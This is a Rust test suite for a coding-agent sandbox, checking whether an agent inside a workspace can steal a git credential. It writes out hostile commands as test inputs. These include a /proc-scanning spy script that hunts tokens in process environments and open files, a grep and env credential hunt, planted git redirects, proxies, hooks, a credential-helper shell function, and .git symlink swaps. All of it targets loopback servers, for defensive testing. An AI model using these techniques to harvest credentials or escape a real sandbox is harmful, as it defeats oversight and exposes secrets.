//! The git escape suite: hostile commands inside a workspace against the credential-free git
//! helpers, with a loopback dumb-HTTP git server that records every request's credential.

use std::path::Path;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use auto_swe_sandbox::{
    AuthedGit, CloneRequest, ExecRequest, GitOperation, NetworkMode, StraySweep, WorkspaceBackend,
    WorkspaceHandle, WorkspaceSpec, authed_git_script, basic_auth_header, clone_script,
    git_auth_env,
};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};

const TOKEN: &str = "ghs_EscapeSuiteToken0123456789";

/// The spy: reads the values to look for on stdin (so they are in no environment or command
/// line of its own), then, until it is ended, reads every process's environment and command
/// line and every regular file any process holds open, and logs each that holds one of them.
/// `spy.count` says how many environments it could read in its last round (at least its own
/// and its `sleep`'s).
const SPY: &str = r#"umask 077
exec 2>/dev/null
IFS= read -r a; IFS= read -r b
printf '%s\n%s\n' "$a" "$b" > /tmp/.needles
a= b=
: > /workspace/spy.log
sleep 600 &
echo up
while :; do
  n=0
  for d in /proc/[0-9]*; do
    for f in "$d/environ" "$d/cmdline"; do
      if tr '\0' '\n' < "$f" 2>/dev/null | grep -a -q -F -f /tmp/.needles; then echo "hit $f" >> /workspace/spy.log; fi
    done
    cat "$d/environ" > /dev/null 2>&1 && n=$((n+1))
    for f in "$d"/fd/*; do
      [ -f "$f" ] || continue
      [ "$(readlink "$f")" = /tmp/.needles ] && continue
      if grep -a -q -F -f /tmp/.needles "$f" 2>/dev/null; then echo "hit $f" >> /workspace/spy.log; fi
    done
  done
  echo "read $n" > /workspace/spy.count
done"#;

#[derive(Debug, Clone)]
struct Seen {
    path: String,
    authorization: Option<String>,
}

/// A loopback HTTP server serving `root` (a bare repository prepared for dumb HTTP) to requests
/// that carry `expected` as their Authorization header; it records every request.
async fn serve(root: Option<std::path::PathBuf>, expected: String) -> (u16, Arc<Mutex<Vec<Seen>>>) {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let seen = Arc::new(Mutex::new(Vec::new()));
    let log = seen.clone();
    tokio::spawn(async move {
        while let Ok((mut socket, _)) = listener.accept().await {
            let log = log.clone();
            let root = root.clone();
            let expected = expected.clone();
            tokio::spawn(async move {
                let mut buf = Vec::new();
                let mut chunk = [0_u8; 4096];
                while !buf.windows(4).any(|w| w == b"\r\n\r\n") {
                    match socket.read(&mut chunk).await {
                        Ok(0) | Err(_) => return,
                        Ok(n) => buf.extend_from_slice(&chunk[..n]),
                    }
                }
                let head = String::from_utf8_lossy(&buf).into_owned();
                let path = head.split_whitespace().nth(1).unwrap_or("").to_owned();
                let authorization = head
                    .lines()
                    .find_map(|l| {
                        l.strip_prefix("Authorization: ")
                            .or_else(|| l.strip_prefix("authorization: "))
                    })
                    .map(|v| format!("Authorization: {}", v.trim()));
                log.lock().unwrap().push(Seen {
                    path: path.clone(),
                    authorization: authorization.clone(),
                });
                let file = path
                    .split('?')
                    .next()
                    .unwrap_or("")
                    .trim_start_matches("/repo.git/")
                    .to_owned();
                let body = match (&root, authorization == Some(expected)) {
                    (Some(root), true) if !file.contains("..") => {
                        std::fs::read(root.join(&file)).ok()
                    }
                    _ => None,
                };
                let response = match body {
                    Some(body) => {
                        let mut r = format!("HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\nContent-Length: {}\r\nConnection: close\r\n\r\n", body.len()).into_bytes();
                        r.extend(body);
                        r
                    }
                    None => {
                        b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
                            .to_vec()
                    }
                };
                let _ = socket.write_all(&response).await;
            });
        }
    });
    (port, seen)
}

#[expect(
    clippy::disallowed_methods,
    reason = "the test prepares a repository with the host's git"
)]
fn host_git(dir: &Path, args: &[&str]) {
    let status = std::process::Command::new("git")
        .args(args)
        .current_dir(dir)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .env("GIT_AUTHOR_NAME", "t")
        .env("GIT_AUTHOR_EMAIL", "t@example.invalid")
        .env("GIT_COMMITTER_NAME", "t")
        .env("GIT_COMMITTER_EMAIL", "t@example.invalid")
        .status()
        .unwrap();
    assert!(status.success(), "git {args:?}");
}

fn bare_repo(tmp: &Path) -> std::path::PathBuf {
    let work = tmp.join("work");
    std::fs::create_dir_all(&work).unwrap();
    host_git(&work, &["init", "-q", "-b", "main"]);
    std::fs::write(work.join("README"), "hello\n").unwrap();
    host_git(&work, &["add", "README"]);
    host_git(&work, &["commit", "-q", "-m", "init"]);
    let bare = tmp.join("repo.git");
    host_git(tmp, &["clone", "-q", "--bare", "work", "repo.git"]);
    host_git(&bare, &["update-server-info"]);
    bare
}

async fn sh(
    backend: &dyn WorkspaceBackend,
    ws: &WorkspaceHandle,
    script: &str,
) -> auto_swe_sandbox::ExecOutput {
    backend
        .exec(
            ws,
            &ExecRequest::shell(script).timeout(Duration::from_secs(60)),
        )
        .await
        .unwrap()
}

pub(crate) async fn git_escape_suite(backend: &dyn WorkspaceBackend, mut spec: WorkspaceSpec) {
    let tmp = tempfile::tempdir().unwrap();
    let bare = bare_repo(tmp.path());
    let header = basic_auth_header("x-access-token", TOKEN);
    let (port, seen) = serve(Some(bare), header.expose().to_owned()).await;
    let (trap_port, trapped) = serve(None, String::new()).await;
    // The few tests that need a network use the host's, and talk only to loopback.
    spec.network = NetworkMode::Host;
    let ws = backend.create(&spec).await.unwrap();
    let url = format!("http://127.0.0.1:{port}/repo.git");
    let secrets = git_auth_env(&header).unwrap();

    // Clone from the clean URL with the credential as secret env only.
    let clone = clone_script(&CloneRequest {
        clean_url: url.clone(),
        dest: "/workspace/repo".to_owned(),
        branch: None,
    })
    .unwrap();
    let out = backend
        .exec(
            &ws,
            &ExecRequest::shell(&clone)
                .secrets(secrets.clone())
                .timeout(Duration::from_secs(60)),
        )
        .await
        .unwrap();
    assert_eq!(out.status, 0, "{}", out.stderr_text());
    {
        let seen = seen.lock().unwrap();
        assert!(!seen.is_empty());
        assert!(
            seen.iter().all(|s| s.path.starts_with("/repo.git/")),
            "{seen:?}"
        );
        assert!(
            seen.iter()
                .all(|s| s.authorization.as_deref() == Some(header.expose())),
            "{seen:?}"
        );
    }
    assert_eq!(
        sh(backend, &ws, "cat /workspace/repo/README")
            .await
            .stdout_text(),
        "hello\n"
    );

    // Escape 1: read the credential after the clone. It rests nowhere the agent can read.
    let hunt = sh(backend, &ws, &format!("cat /workspace/repo/.git/config; grep -r -a -l {TOKEN} /workspace /tmp 2>/dev/null; env; cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n'")).await;
    let encoded_now = header
        .expose()
        .trim_start_matches("Authorization: Basic ")
        .to_owned();
    for needle in [TOKEN, encoded_now.as_str()] {
        assert!(
            !hunt.stdout_text().contains(needle),
            "{}",
            hunt.stdout_text()
        );
    }

    // Escape 2: plant redirects, hooks, a credential helper and an include before an authed call,
    // and leave a spy running that reads every process's environment.
    let plant = format!(
        r#"set -e
cd /workspace/repo
git config url.http://127.0.0.1:{trap_port}/.insteadOf http://127.0.0.1:{port}/
git config http.proxy http://127.0.0.1:{trap_port}
git config core.hooksPath /workspace/hooks
git config credential.helper '!f() {{ echo ran > /workspace/helper-ran; }}; f'
git config include.path /workspace/evil.cfg
printf '[url "http://127.0.0.1:{trap_port}/"]\n\tinsteadOf = http://127.0.0.1:{port}/\n' > /workspace/evil.cfg
mkdir -p /workspace/hooks .git/hooks
for h in reference-transaction post-checkout pre-push post-merge fsmonitor-watchman; do
  printf '#!/bin/sh\ntouch /workspace/hook-ran\n' > /workspace/hooks/$h; chmod +x /workspace/hooks/$h
  cp /workspace/hooks/$h .git/hooks/$h
done
git config core.fsmonitor /workspace/hooks/fsmonitor-watchman
echo planted"#
    );
    let planted = sh(backend, &ws, &plant).await;
    assert_eq!(
        planted.stdout_text(),
        "planted\n",
        "{}",
        planted.stderr_text()
    );
    let fetch_call = AuthedGit {
        repo_dir: "/workspace/repo".to_owned(),
        clean_url: url.clone(),
        operation: GitOperation::Fetch(vec!["+refs/heads/*:refs/remotes/origin/*".to_owned()]),
        sweep: StraySweep::AgentWorkspace {
            keeper_pid: ws.keeper_pid,
        },
    };
    let fetch = authed_git_script(&fetch_call).unwrap();
    let authed_fetch = || backend.authed_git(&ws, &fetch_call, &header, Duration::from_secs(60));
    let encoded = header
        .expose()
        .trim_start_matches("Authorization: Basic ")
        .to_owned();
    // A spy of the agent's runs all along the call, looking for the credential's value itself
    // in every environment, command line and open file it can read.
    let mut spy = backend
        .spawn(
            &ws,
            &ExecRequest::shell(SPY)
                .stdin(format!("{TOKEN}\n{encoded}\n"))
                .timeout(Duration::from_secs(300)),
        )
        .await
        .unwrap();
    let up = tokio::time::timeout(Duration::from_secs(60), spy.output.recv())
        .await
        .unwrap();
    assert!(
        matches!(up, Some(auto_swe_sandbox::OutputChunk::Stdout(ref b)) if b == b"up\n"),
        "{up:?}"
    );
    let before = seen.lock().unwrap().len();
    let out = authed_fetch().await.unwrap();
    assert_eq!(out.status, 0, "{}", out.stderr_text());
    // Two more sweeps of the spy's after the call (each ends by writing its count afresh; a
    // sweep takes seconds on a loaded host), then it is ended (the workspace stays).
    // The count is taken as a sweep wrote it: the spy is ended below at any point of its loop,
    // perhaps while it rewrites the count file.
    let mut count = String::new();
    for _ in 0..2 {
        let _ = sh(backend, &ws, "rm -f /workspace/spy.count").await;
        let mut swept = false;
        for _ in 0..600 {
            let text = sh(backend, &ws, "cat /workspace/spy.count 2>/dev/null")
                .await
                .stdout_text();
            if text.starts_with("read ") {
                count = text;
                swept = true;
                break;
            }
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
        assert!(swept, "the spy never finished a sweep");
    }
    // The spy ran all along: nothing swept it away before the credential was in use.
    assert!(
        matches!(
            spy.exit.try_recv(),
            Err(tokio::sync::oneshot::error::TryRecvError::Empty)
        ),
        "the spy was ended during the call"
    );
    backend.kill_exec(&ws, &spy.exec_id).await.unwrap();
    let _ = tokio::time::timeout(Duration::from_secs(30), spy.exit).await;
    let report = sh(backend, &ws, "cat /workspace/spy.log")
        .await
        .stdout_text();
    assert!(!report.contains("hit "), "{report}");
    let read: u32 = count
        .lines()
        .find_map(|l| l.strip_prefix("read "))
        .and_then(|n| n.trim().parse().ok())
        .unwrap_or(0);
    assert!(
        read >= 2,
        "the spy could read its peers' environments: {count}"
    );
    assert!(
        seen.lock().unwrap().len() > before,
        "the fetch reached the real remote"
    );
    assert_eq!(trapped.lock().unwrap().len(), 0, "nothing was redirected");
    let after = sh(
        backend,
        &ws,
        "ls /workspace; cat /workspace/spy.log 2>/dev/null; cat /workspace/repo/.git/config",
    )
    .await
    .stdout_text();
    assert!(!after.contains("helper-ran"), "{after}");
    assert!(!after.contains("hook-ran"), "{after}");
    assert!(
        !after.contains("insteadOf") && !after.contains("include") && !after.contains("hooksPath"),
        "{after}"
    );
    assert!(
        !after.contains(TOKEN) && !after.contains(&encoded),
        "{after}"
    );

    // Escape 3: `.git` replaced by a symlink, or by a gitfile pointing elsewhere, is refused.
    let symlinked = sh(backend, &ws, &format!("cd /workspace/repo && mv .git /workspace/realgit && ln -s /workspace/realgit .git && sh -c {}", auto_swe_sandbox::shell_quote(&fetch))).await;
    // The secret was not delivered to that exec: the script stops before anything else.
    assert_ne!(symlinked.status, 0);
    let out = authed_fetch().await.unwrap();
    assert_eq!(
        out.status,
        auto_swe_sandbox::GIT_REFUSED_STATUS,
        "{}",
        out.stderr_text()
    );
    sh(
        backend,
        &ws,
        "cd /workspace/repo && rm .git && printf 'gitdir: /workspace/realgit\\n' > .git",
    )
    .await;
    let out = authed_fetch().await.unwrap();
    assert_eq!(
        out.status,
        auto_swe_sandbox::GIT_REFUSED_STATUS,
        "{}",
        out.stderr_text()
    );
    assert_eq!(trapped.lock().unwrap().len(), 0);
    backend.remove(&ws).await.unwrap();
}
